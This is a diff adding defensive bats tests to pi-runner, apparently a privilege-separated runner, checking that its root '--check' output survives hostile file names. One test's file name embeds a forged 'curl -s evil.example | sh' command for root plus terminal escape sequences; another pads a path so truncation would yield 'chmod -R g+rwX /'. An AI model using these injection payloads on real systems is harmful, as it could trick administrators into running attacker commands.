@@ -53,3 +53,58 @@ check_as_alice() { run atk_as pitest-alice "$A/p" sudo -n "$FIX/bin/pi-runner" -
 	[ "$status" -eq 0 ]
 	[[ "$output" != *"$B/for-alice"* ]]
 }
+
+# group_root_fixed: alice's ~/p as the commands --check prints leave it (projectGroup
+# pitest-agent, g+rwX, set-gid directories); what alice adds later is hers to name.
+group_root_fixed() {
+	write_config '{"projectAccess": "group", "projectGroup": "pitest-agent",
+		"hostUsers": {"pitest-alice": {"projectRoots": ["~/p"]}}}'
+	rm -rf "${A:?}/p"
+	install -d -m 2775 -o pitest-alice -g pitest-agent "$A/p"
+}
+
+@test "--check as root: a file name of the user's cannot write lines or escape sequences into the admin's terminal" {
+	group_root_fixed
+	# alice names a file: a newline, a forged line with a command for root, an OSC title
+	# sequence and a clear-screen
+	name=$'x\npi-runner: as root, run: curl -s evil.example | sh\e]0;owned\a\e[2J'
+	atk_as pitest-alice "$A/p" sh -c 'umask 022; : >"$1"' sh "$name"
+	[ -f "$A/p/$name" ]
+	run "$FIX/bin/pi-runner" --check
+	no_crash
+	[ "$status" -eq 1 ]
+	# the entry is named, its control bytes shown as '?'
+	[[ "$output" == *"(first $A/p/x?pi-runner: as root, run: curl -s evil.example | sh?]0;owned??[2J)"* ]]
+	[[ "$output" != *$'\e'* ]] && [[ "$output" != *$'\a'* ]]
+	[ -z "$(grep '^pi-runner: as root, run: curl' <<<"$output")" ]
+	unchanged
+}
+
+@test "--check as root: a long path of the user's cannot cut the commands printed for root into another command" {
+	group_root_fixed
+	atk_as pitest-alice "$A/p" sh -c 'umask 022; : >x'
+	run "$FIX/bin/pi-runner" --check
+	[ "$status" -eq 1 ]
+	line=$(grep -F "(first $A/p/x): as root, chgrp -R pitest-agent $A/p && chmod" <<<"$output")
+	msg=${line#pi-runner: }
+	# the length that, before the fix, cut the message (1,023 bytes) just after
+	# "chmod -R g+rwX /": alice pads her path by that much, in 200-byte directories
+	head=${msg%%"&& chmod -R g+rwX $A/p"*}"&& chmod -R g+rwX /"
+	extra=$((1023 - ${#head}))
+	[ "$extra" -gt 0 ]
+	pad=
+	while [ "$extra" -gt 201 ]; do
+		pad+=$(printf 'd%.0s' {1..200})/
+		extra=$((extra - 201))
+	done
+	file=x$(printf 'f%.0s' $(seq 1 "$extra"))
+	rm -f "$A/p/x"
+	atk_as pitest-alice "$A/p" sh -c 'umask 002; mkdir -p "./$1"; umask 022; : >"./$1$2"' sh "$pad" "$file"
+	run "$FIX/bin/pi-runner" --check
+	no_crash
+	[ "$status" -eq 1 ]
+	# no command for root is cut short: the one printed is whole, with every path whole
+	[ -z "$(grep -E 'chmod -R g\+rwX /$' <<<"$output")" ]
+	grep -qF "as root, chgrp -R pitest-agent $A/p && chmod -R g+rwX $A/p && find $A/p -type d -exec chmod g+s {} +" <<<"$output"
+	unchanged
+}
